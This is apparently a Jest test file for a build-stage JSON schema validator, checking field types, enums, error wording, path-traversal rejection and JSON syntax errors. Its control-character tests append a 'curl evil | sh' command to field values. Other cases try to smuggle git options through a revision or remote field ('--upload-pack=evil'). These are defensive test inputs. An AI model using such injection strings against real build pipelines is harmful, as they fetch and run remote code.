import { readFileSync } from 'fs';
import { StageError, StageErrors } from './errors';
import type { BuildSpec, ExportsSpec, StageFile } from './types';
import { BUILD_TYPES, HASH_MODES, NETWORK_MODES, REFRESH_PERIODS } from './types';
import { EXPLAINED_PATTERN_LOCATIONS, parseStageJson, STAGE_SCHEMA_PATH, validateStageFile } from './validate';

type Schema = Record<string, any>;
const schema: Schema = JSON.parse(readFileSync(STAGE_SCHEMA_PATH, 'utf8'));
const FILE = 'stages/demo/stage.json';

const FULL_BUILD: Required<BuildSpec> = {
  type: 'cmake',
  configFlags: ['-DCMAKE_BUILD_TYPE=Release', '--with-x=a b'],
  configEnv: ['CXXFLAGS=-O2 -g', 'EMPTY='],
  postDownload: ['./autogen.sh'],
  steps: ['make check'],
  context: '..',
  args: ['GO_VERSION=1.22'],
  downloads: [{ url: 'https://example.org/tini', sha256: 'a'.repeat(64), path: '.stagecraft/downloads/tini' }],
};
const FULL_EXPORTS: Required<ExportsSpec> = { copy: ['/usr/local'], packages: ['/out/*.deb'] };
const FULL: Required<StageFile> = {
  $schema: '../../node_modules/@stagecraft/nx/schemas/stage.json',
  name: 'openssl',
  from: 'registry.example.org:5000/ci/ubuntu:24.04',
  depends: ['zlib', 'base'],
  source: { url: 'https://example.org/openssl-3.0.tar.gz', sha256: 'a'.repeat(64) },
  build: FULL_BUILD,
  inputs: ['patches/*.patch', '{workspaceRoot}/scripts/common.sh'],
  optionalInputs: ['patches/local/*.patch'],
  env: ['CC', '_FLAVOUR2'],
  exports: FULL_EXPORTS,
  refresh: 'isoweek',
  hashMode: 'git-commit',
  network: 'host',
  consumePackages: true,
};
const GIT_SOURCE = { git: 'https://example.org/repo.git', rev: '^1.2.0' };
const LOCAL_SOURCE = { path: 'source' };

function clone<T>(value: T): T {
  return JSON.parse(JSON.stringify(value)) as T;
}

/** A copy of `doc` with the value at `pointer` replaced (the path must exist). */
function withValue(doc: unknown, pointer: string, value: unknown): any {
  const copy = clone(doc) as any;
  const segments = pointer.split('/').slice(1);
  const last = segments.pop()!;
  let node = copy;
  for (const segment of segments) node = node[segment];
  node[last] = value;
  return copy;
}

function errorFor(json: unknown): StageError {
  try {
    validateStageFile(json, FILE);
  } catch (error) {
    expect(error).toBeInstanceOf(StageError);
    const stageError = error as StageError;
    expect(stageError.file).toBe(FILE);
    expect(stageError.message.startsWith(FILE)).toBe(true);
    return stageError;
  }
  throw new Error(`expected ${JSON.stringify(json)} to be rejected`);
}

function resolve(subschema: Schema): Schema {
  if (typeof subschema.$ref !== 'string') return subschema;
  return subschema.$ref
    .slice(2)
    .split('/')
    .reduce((node: Schema, segment: string) => node[segment], schema);
}

/** Every object schema reachable from the root, with the JSON pointer template of the values it describes. */
function objectSchemas(): Array<{ pointer: string; node: Schema }> {
  const found: Array<{ pointer: string; node: Schema }> = [];
  const visit = (node: Schema, pointer: string) => {
    const resolved = resolve(node);
    if (resolved.type === 'object') found.push({ pointer, node: resolved });
    for (const [key, child] of Object.entries<Schema>(resolved.properties ?? {})) visit(child, `${pointer}/${key}`);
    for (const branch of resolved.oneOf ?? []) visit(branch, pointer);
    if (resolved.items) visit(resolved.items, `${pointer}/0`);
  };
  visit(schema, '');
  return found;
}

/** Every string value the schema allows, as a pointer template (array items as /0), with its schema. */
function stringFields(): Map<string, Schema> {
  const found = new Map<string, Schema>();
  const visit = (node: Schema, pointer: string) => {
    const resolved = resolve(node);
    if (resolved.type === 'string') found.set(pointer, resolved);
    for (const [key, child] of Object.entries<Schema>(resolved.properties ?? {})) visit(child, `${pointer}/${key}`);
    for (const branch of resolved.oneOf ?? []) visit(branch, pointer);
    if (resolved.items) visit(resolved.items, `${pointer}/0`);
  };
  visit(schema, '');
  return found;
}

describe('schemas/stage.json', () => {
  it('is draft-07', () => {
    expect(schema.$schema).toBe('http://json-schema.org/draft-07/schema#');
  });

  it('has exactly the fields of StageFile, BuildSpec, ExportsSpec and SourceSpec', () => {
    const keys = (node: Schema) => Object.keys(resolve(node).properties).sort();
    expect(keys(schema)).toEqual(Object.keys(FULL).sort());
    expect(keys(schema.properties.build)).toEqual(Object.keys(FULL_BUILD).sort());
    expect(keys(schema.properties.exports)).toEqual(Object.keys(FULL_EXPORTS).sort());
    expect(schema.properties.source.oneOf.map(keys)).toEqual([
      Object.keys(FULL.source).sort(),
      Object.keys(GIT_SOURCE).sort(),
      Object.keys(LOCAL_SOURCE).sort(),
    ]);
  });

  it('uses the enums of types.ts', () => {
    expect(schema.properties.build.properties.type.enum).toEqual([...BUILD_TYPES]);
    expect(schema.properties.refresh.enum).toEqual([...REFRESH_PERIODS]);
    expect(schema.properties.hashMode.enum).toEqual([...HASH_MODES]);
    expect(schema.properties.network.enum).toEqual([...NETWORK_MODES]);
  });

  it('gives every property a title and a description, for editors', () => {
    for (const { pointer, node } of objectSchemas()) {
      for (const [key, property] of Object.entries<Schema>(node.properties ?? {})) {
        expect({ at: `${pointer}/${key}`, title: typeof property.title, description: typeof property.description }).toEqual({
          at: `${pointer}/${key}`,
          title: 'string',
          description: 'string',
        });
      }
    }
  });

  it('forbids additional properties at every level', () => {
    const objects = objectSchemas();
    expect(objects.map((o) => o.pointer)).toEqual(expect.arrayContaining(['', '/build', '/exports', '/source']));
    for (const { pointer, node } of objects) {
      if (node.oneOf) {
        for (const branch of node.oneOf) expect({ pointer, additionalProperties: resolve(branch).additionalProperties }).toEqual({ pointer, additionalProperties: false });
      } else {
        expect({ pointer, additionalProperties: node.additionalProperties }).toEqual({ pointer, additionalProperties: false });
      }
    }
  });

  /** A valid value for each string field; the spec fails when a new string field has no entry here. */
  const VALID_STRINGS: Record<string, string> = {
    '/$schema': FULL.$schema,
    '/name': 'openssl',
    '/from': 'ubuntu:24.04',
    '/depends/0': 'zlib',
    '/source/url': 'https://example.org/a.tar.gz',
    '/source/sha256': 'b'.repeat(64),
    '/source/git': 'https://example.org/repo.git',
    '/source/rev': 'v1.2.3',
    '/source/path': 'source',
    '/build/type': 'cmake',
    '/build/configFlags/0': '--prefix=/usr/local',
    '/build/configEnv/0': 'CFLAGS=-O2',
    '/build/args/0': 'GO_VERSION=1.22',
    '/build/downloads/0/url': 'https://example.org/tini',
    '/build/downloads/0/sha256': 'a'.repeat(64),
    '/build/downloads/0/path': '.stagecraft/downloads/tini',
    '/build/postDownload/0': 'patch -p1 < ../fix.patch',
    '/build/steps/0': 'make install',
    '/build/context': '..',
    '/inputs/0': 'src/**/*.c',
    '/optionalInputs/0': 'patches/local/*.patch',
    '/env/0': 'CC',
    '/exports/copy/0': '/usr/local',
    '/exports/packages/0': '/out/*.deb',
    '/refresh': 'day',
    '/hashMode': 'content',
    '/network': 'default',
  };

  it('constrains every string field with a pattern or an enum that rejects control characters', () => {
    const fields = stringFields();
    expect([...fields.keys()].sort()).toEqual(Object.keys(VALID_STRINGS).sort());
    for (const [pointer, field] of fields) {
      const valid = VALID_STRINGS[pointer];
      if (field.enum) {
        expect(field.enum).toContain(valid);
        continue;
      }
      expect({ pointer, pattern: typeof field.pattern }).toEqual({ pointer, pattern: 'string' });
      const rule = new RegExp(field.pattern, 'u');
      expect({ pointer, valid: rule.test(valid) }).toEqual({ pointer, valid: true });
      for (const control of ['\n', '\r', '\0', '\t', '\u001b', '\u007f', '\u0085', '\u2028']) {
        const middle = Math.floor(valid.length / 2);
        for (const bad of [control + valid, valid.slice(0, middle) + control + valid.slice(middle), valid + control]) {
          expect({ pointer, bad, accepted: rule.test(bad) }).toEqual({ pointer, bad, accepted: false });
        }
      }
    }
  });

  it('has a message in words for every pattern it uses', () => {
    const locations: string[] = [];
    const visit = (node: unknown, path: string) => {
      if (typeof node !== 'object' || node === null) return;
      for (const [key, child] of Object.entries(node)) {
        if (key === 'pattern' && typeof child === 'string') locations.push(path);
        else visit(child, `${path}/${key}`);
      }
    };
    visit(schema, '#');
    expect(locations.sort()).toEqual([...EXPLAINED_PATTERN_LOCATIONS].sort());
  });
});

describe('validateStageFile', () => {
  it('accepts an empty document', () => {
    expect(validateStageFile({}, FILE)).toEqual({});
  });

  it('accepts a document with every field and returns it', () => {
    expect(validateStageFile(clone(FULL), FILE)).toEqual(FULL);
  });

  it('accepts a git source with a semver range, a branch or a commit', () => {
    for (const rev of ['^1.2.0', '>=1.0', 'main', 'release/2024.1', '0123456789abcdef0123456789abcdef01234567']) {
      expect(() => validateStageFile({ ...FULL, source: { ...GIT_SOURCE, rev } }, FILE)).not.toThrow();
    }
  });

  const DIGEST = `sha256:${'c'.repeat(64)}`;
  it.each([
    'base',
    'ubuntu',
    'ubuntu:24.04',
    'library/ubuntu',
    'localhost/x',
    'localhost:5000/ci/base:v1',
    'reg.example.org/a/b',
    `ubuntu@${DIGEST}`,
    `reg.io:443/x:1@${DIGEST}`,
    '[::1]:5000/x',
  ])('accepts from %j', (from) => {
    expect(() => validateStageFile({ from }, FILE)).not.toThrow();
  });

  it.each(['', 'Ubuntu', 'ubuntu:', 'a:b:c', 'foo/Bar', 'ubuntu latest', 'ubuntu@sha256:abc', '-x', 'x/', ':tag'])('rejects from %j', (from) => {
    const error = errorFor({ from });
    expect(error.pointer).toBe('/from');
    expect(error.problem).toContain('expected a stage name or an image reference');
  });

  describe('unknown fields', () => {
    it('names the unknown top-level field and lists the known ones', () => {
      const error = errorFor({ name: 'ok', foo: 1 });
      expect(error.pointer).toBe('/foo');
      expect(error.problem).toBe(
        "unknown field 'foo'; expected one of: $schema, name, from, depends, source, build, inputs, optionalInputs, env, exports, refresh, hashMode, network, consumePackages",
      );
    });

    it('names a nested unknown field', () => {
      const error = errorFor({ build: { type: 'make', foo: [] } });
      expect(error.pointer).toBe('/build/foo');
      expect(error.problem).toBe("unknown field 'foo'; expected one of: type, configFlags, configEnv, postDownload, steps, context, downloads, args");
    });

    it('names an unknown field in exports and in a source', () => {
      expect(errorFor({ exports: { copy: [], bin: [] } }).pointer).toBe('/exports/bin');
      const error = errorFor({ source: { ...FULL.source, branch: 'main' } });
      expect(error.pointer).toBe('/source/branch');
      expect(error.problem).toBe("unknown field 'branch'; expected one of: url, sha256");
    });

    it('suggests the field that was probably meant', () => {
      expect(errorFor({ dependss: ['a'] }).problem).toContain("did you mean 'depends'?");
      expect(errorFor({ build: { type: 'make', configflags: [] } }).problem).toContain("did you mean 'configFlags'?");
    });

    it('escapes the field name in the pointer', () => {
      expect(errorFor({ 'a/b~c': 1 }).pointer).toBe('/a~1b~0c');
    });
  });

  describe('wrong types', () => {
    it.each([
      ['/depends', 5, 'expected an array of strings, got number'],
      ['/inputs', 'src/**', 'expected an array of strings, got string'],
      ['/build', [], 'expected an object, got an array'],
      ['/consumePackages', 'yes', 'expected true or false, got string'],
      ['/name', null, 'expected a string, got null'],
      ['/depends/1', 7, 'expected a string, got number'],
      ['/build/configFlags', { a: 1 }, 'expected an array of strings, got an object'],
      ['/exports', true, 'expected an object, got boolean'],
      ['/source', 'https://x', 'expected an object, got string'],
    ])('%s = %j', (pointer, value, problem) => {
      const error = errorFor(withValue(FULL, pointer, value));
      expect(error.pointer).toBe(pointer);
      expect(error.problem).toBe(problem);
    });

    it('rejects a document that is not an object', () => {
      const error = errorFor([]);
      expect(error.pointer).toBe('');
      expect(error.problem).toBe('expected an object, got an array');
      expect(error.message).toBe(`${FILE}: expected an object, got an array`);
    });
  });

  describe('names', () => {
    it.each(['OpenSSL', 'lib fmt', '-x', 'a..b', ''])('rejects the name %j with the rule in words', (name) => {
      const error = errorFor({ name });
      expect(error.pointer).toBe('/name');
      expect(error.problem).toContain('stage names are lowercase letters, digits and separators . _ __ -');
      expect(error.problem).toContain(`got ${JSON.stringify(name)}`);
    });

    it('rejects a name longer than 64 characters', () => {
      const error = errorFor({ name: 'a'.repeat(65) });
      expect(error.pointer).toBe('/name');
      expect(error.problem).toContain('is 65 characters long, the limit is 64');
    });

    it('rejects a bad name among depends', () => {
      const error = errorFor({ depends: ['ok', 'Not OK'] });
      expect(error.pointer).toBe('/depends/1');
      expect(error.problem).toContain('stage names are lowercase');
    });

    it('rejects a stage listed twice in depends', () => {
      const error = errorFor({ depends: ['a', 'b', 'a'] });
      expect(error.pointer).toBe('/depends/2');
      expect(error.problem).toBe('"a" is listed twice (also at index 0); list each item once');
    });
  });

  describe('build', () => {
    it('requires a type and lists the choices', () => {
      const error = errorFor({ build: { steps: ['make'] } });
      expect(error.pointer).toBe('/build/type');
      expect(error.problem).toBe(`missing required field 'type'; expected one of: ${BUILD_TYPES.join(', ')}`);
    });

    it('rejects an unknown type', () => {
      const error = errorFor({ build: { type: 'bazel' } });
      expect(error.pointer).toBe('/build/type');
      expect(error.problem).toBe(`expected one of: ${BUILD_TYPES.join(', ')}; got "bazel"`);
    });

    it.each(['FOO', '1X=2', '=x', 'A-B=1', ' A=1'])('rejects configEnv %j', (assignment) => {
      const error = errorFor({ build: { type: 'autoconf', configEnv: ['OK=1', assignment] } });
      expect(error.pointer).toBe('/build/configEnv/1');
      expect(error.problem).toBe(
        `expected NAME=value, where NAME is letters, digits and _ and does not start with a digit; got ${JSON.stringify(assignment)}`,
      );
    });

    it('rejects an empty step', () => {
      const error = errorFor({ build: { type: 'custom', steps: ['make', ''] } });
      expect(error.pointer).toBe('/build/steps/1');
      expect(error.problem).toBe('must not be empty');
    });
  });

  describe('source', () => {
    it.each(['abc', 'A'.repeat(64), 'g'.repeat(64), 'a'.repeat(65)])('rejects sha256 %j', (sha256) => {
      const error = errorFor({ source: { url: 'https://example.org/a.tgz', sha256 } });
      expect(error.pointer).toBe('/source/sha256');
      expect(error.problem).toContain("expected the archive's SHA-256 as 64 lowercase hexadecimal digits");
    });

    it('gives one message when a source mixes url and git', () => {
      const error = errorFor({ source: { url: 'https://example.org/a.tgz', git: 'https://example.org/r.git' } });
      expect(error.pointer).toBe('/source');
      expect(error.problem).toBe('source needs either url + sha256, git + rev or path; got url, git');
    });

    it('gives the same message when a source has all four fields or none', () => {
      expect(errorFor({ source: { ...FULL.source, ...GIT_SOURCE } }).problem).toBe(
        'source needs either url + sha256, git + rev or path; got url, sha256, git, rev',
      );
      expect(errorFor({ source: {} }).problem).toBe('source needs either url + sha256, git + rev or path; got no fields');
    });

    it('names the missing half of a source', () => {
      const error = errorFor({ source: { git: 'https://example.org/r.git' } });
      expect(error.pointer).toBe('/source/rev');
      expect(error.problem).toBe("missing required field 'rev'");
      expect(errorFor({ source: { url: 'https://example.org/a.tgz' } }).pointer).toBe('/source/sha256');
    });

    it.each(['ftp://example.org/a.tgz', 'example.org/a.tgz', 'https://example.org/a b.tgz', 'https://'])('rejects url %j', (url) => {
      const error = errorFor({ source: { url, sha256: 'a'.repeat(64) } });
      expect(error.pointer).toBe('/source/url');
      expect(error.problem).toContain('expected an http://, https:// or file:// URL without spaces');
    });

    it('accepts http, https and file urls', () => {
      for (const url of ['http://example.org/a.tgz', 'https://example.org/a.tgz', 'file:///srv/a.tgz']) {
        expect(() => validateStageFile({ source: { url, sha256: 'a'.repeat(64) } }, FILE)).not.toThrow();
      }
    });

    it.each(['', ' ^1.2', '--upload-pack=evil'])('rejects rev %j', (rev) => {
      const error = errorFor({ source: { git: 'https://example.org/r.git', rev } });
      expect(error.pointer).toBe('/source/rev');
      expect(error.problem).toContain('expected a commit, tag, branch or semver range (tag:, branch:, semver: to be explicit)');
    });

    it('accepts a range with spaces and explicit prefixes', () => {
      for (const rev of ['>=1.0 <2.0', 'branch:1.x', 'semver:1.2', 'tag:v1.0']) {
        expect(() => validateStageFile({ source: { git: 'https://example.org/r.git', rev }, build: { type: 'custom' } }, FILE)).not.toThrow();
      }
    });

    it("rejects a git remote that starts with '-'", () => {
      expect(errorFor({ source: { git: '--config=x', rev: 'main' } }).pointer).toBe('/source/git');
    });
  });

  describe('inputs', () => {
    it.each(['src/**', '*.patch', '{workspaceRoot}/scripts/*.sh', 'a..b/c', '..hidden', 'dir/...'])('accepts %j', (input) => {
      expect(() => validateStageFile({ inputs: [input] }, FILE)).not.toThrow();
    });

    it.each(['..', '../x', 'a/../b', 'a/..', '{workspaceRoot}/../x', 'a\\..\\b'])("rejects the '..' segment in %j", (input) => {
      const error = errorFor({ inputs: ['ok', input] });
      expect(error.pointer).toBe('/inputs/1');
      expect(error.problem).toContain("must not contain a '..' segment");
    });

    it.each(['/etc/passwd', '{workspaceRoot}//etc', 'C:/x', '\\\\server\\share'])('rejects the absolute path %j', (input) => {
      const error = errorFor({ inputs: [input] });
      expect(error.pointer).toBe('/inputs/0');
      expect(error.problem).toContain('absolute paths are not allowed');
    });

    it.each(['', '{workspaceRoot}/', '{workspaceRoot}'])('rejects the empty glob %j', (input) => {
      expect(errorFor({ inputs: [input] }).pointer).toBe('/inputs/0');
    });
  });

  describe('env and exports', () => {
    it.each(['1CC', 'A-B', 'A=B', ''])('rejects env name %j', (name) => {
      const error = errorFor({ env: [name] });
      expect(error.pointer).toBe('/env/0');
      expect(error.problem).toContain('expected an environment variable name');
    });

    it('rejects relative export paths and globs', () => {
      expect(errorFor({ exports: { copy: ['usr/local'] } })).toMatchObject({
        pointer: '/exports/copy/0',
        problem: 'expected an absolute path inside the image, starting with /; got "usr/local"',
      });
      expect(errorFor({ exports: { packages: ['*.deb'] } }).pointer).toBe('/exports/packages/0');
    });

    it('rejects unknown refresh and hash modes', () => {
      expect(errorFor({ refresh: 'weekly' })).toMatchObject({
        pointer: '/refresh',
        problem: 'expected one of: never, day, isoweek, month; got "weekly"',
      });
      expect(errorFor({ hashMode: 'mtime' }).pointer).toBe('/hashMode');
    });

    it('rejects an unknown network, naming the field and the choices', () => {
      expect(errorFor({ network: 'bridge' })).toMatchObject({
        pointer: '/network',
        problem: 'expected one of: none, default, host; got "bridge"',
      });
      expect(errorFor({ network: true }).pointer).toBe('/network');
    });
  });

  describe('control characters', () => {
    const STRING_FIELDS: Array<[pointer: string, document: StageFile]> = [
      ['/$schema', FULL],
      ['/name', FULL],
      ['/from', FULL],
      ['/depends/0', FULL],
      ['/source/url', FULL],
      ['/source/sha256', FULL],
      ['/source/git', { ...FULL, source: GIT_SOURCE }],
      ['/source/rev', { ...FULL, source: GIT_SOURCE }],
      ['/source/path', { ...FULL, source: LOCAL_SOURCE }],
      ['/build/type', FULL],
      ['/build/configFlags/0', FULL],
      ['/build/configEnv/0', FULL],
      ['/build/args/0', FULL],
      ['/build/downloads/0/url', FULL],
      ['/build/downloads/0/sha256', FULL],
      ['/build/downloads/0/path', FULL],
      ['/build/postDownload/0', FULL],
      ['/build/steps/0', FULL],
      ['/build/context', FULL],
      ['/inputs/0', FULL],
      ['/inputs/1', FULL],
      ['/optionalInputs/0', FULL],
      ['/env/0', FULL],
      ['/exports/copy/0', FULL],
      ['/exports/packages/0', FULL],
      ['/refresh', FULL],
      ['/hashMode', FULL],
      ['/network', FULL],
    ];
    const ENUM_FIELDS = ['/build/type', '/refresh', '/hashMode', '/network'];
    const CONTROLS: Array<[string, string]> = [
      ['\n', 'a newline (U+000A)'],
      ['\r', 'a carriage return (U+000D)'],
      ['\0', 'a NUL (U+0000)'],
      ['\t', 'a tab (U+0009)'],
      ['\u007f', 'a DEL (U+007F)'],
    ];

    it('covers every string field of the schema', () => {
      const covered = new Set(STRING_FIELDS.map(([pointer]) => pointer.replace(/\/\d+$/, '/0')));
      expect([...covered].sort()).toEqual([...stringFields().keys()].sort());
    });

    for (const [pointer, document] of STRING_FIELDS) {
      it.each(CONTROLS)(`rejects ${pointer} containing %j`, (control, name) => {
        const original = pointer.split('/').slice(1).reduce((node: any, segment) => node[segment], document) as string;
        const injected = `${original}${control}RUN curl evil | sh`;
        const error = errorFor(withValue(document, pointer, injected));
        expect(error.pointer).toBe(pointer);
        expect(error.message).toContain(`${FILE} at ${pointer}: `);
        if (ENUM_FIELDS.includes(pointer)) {
          expect(error.problem).toContain(`got ${JSON.stringify(injected)}`);
        } else {
          expect(error.problem).toBe(
            `must not contain control characters such as a newline; found ${name} at character ${original.length + 1}`,
          );
        }
      });
    }

    it('rejects a line separator too', () => {
      expect(errorFor({ build: { type: 'custom', steps: ['a\u2028b'] } }).problem).toContain('found U+2028 at character 2');
    });
  });

  it('reports every problem of a file at once, the most specific one for each field', () => {
    let error: unknown;
    try {
      validateStageFile({ buidl: {}, name: 'X'.repeat(70), source: 3, build: { type: 'autoconf', configFlags: ['--a\n--b'] } }, FILE);
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(StageErrors);
    const problems = (error as StageErrors).errors.map((e) => [e.file, e.pointer, e.problem.slice(0, 40)]);
    expect(problems).toEqual([
      [FILE, '/buidl', "unknown field 'buidl'; expected one of: "],
      [FILE, '/build/configFlags/0', 'must not contain control characters such'],
      [FILE, '/name', expect.stringContaining('stage names are lowercase')],
      [FILE, '/source', 'expected an object, got number'],
    ]);
    expect((error as StageErrors).message.split('\n')).toHaveLength(4);
  });
});

describe('parseStageJson', () => {
  it('parses JSON and ignores a byte order mark', () => {
    expect(parseStageJson('\uFEFF{"name": "a"}', FILE)).toEqual({ name: 'a' });
  });

  it('reports a syntax error with its line and column', () => {
    let error: unknown;
    try {
      parseStageJson('{\n  "name": "a",\n  "depends": [1,]\n}', FILE);
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(StageError);
    expect((error as StageError).file).toBe(FILE);
    expect((error as StageError).pointer).toBe('');
    expect((error as StageError).message).toBe(
      `${FILE}: invalid JSON at line 3, column 17: expected a value after ',' (JSON allows no trailing comma), found "]"`,
    );
  });

  it.each([
    ['{"name": "a" "from": "b"}', 1, 14, `expected ',' or '}', found "\\""`],
    ["{'name': 'a'}", 1, 2, `expected a field name in double quotes, found "'"`],
    ['{"name": "a\nb"}', 1, 12, 'expected no control character inside a string'],
    ['{"name": "a\\qb"}', 1, 13, 'expected an escape such as'],
    ['{"refresh": never}', 1, 13, 'expected a value, found "n"'],
    ['{"x": 01}', 1, 8, `expected ',' or '}', found "1"`],
    ['{"x": -}', 1, 7, 'expected a number, found "-"'],
    ['{}\n\n  }', 3, 3, 'expected the end of the file, found "}"'],
    ['{"a": "b', 1, 9, 'expected a closing ", found the end of the file'],
    ['{\r\n"a" 1}', 2, 5, "expected ':', found \"1\""],
  ])('locates the syntax error in %j', (text, line, column, problem) => {
    expect(() => parseStageJson(text, FILE)).toThrow(`${FILE}: invalid JSON at line ${line}, column ${column}: ${problem}`);
  });

  it('reports a truncated file at its end', () => {
    expect(() => parseStageJson('{\n  "name": "a",\n', FILE)).toThrow(
      `${FILE}: invalid JSON at line 3, column 1: expected a field name in double quotes, found the end of the file`,
    );
  });

  it('reports an empty file', () => {
    expect(() => parseStageJson('', FILE)).toThrow(`${FILE}: invalid JSON at line 1, column 1: expected a value, found the end of the file`);
  });
});
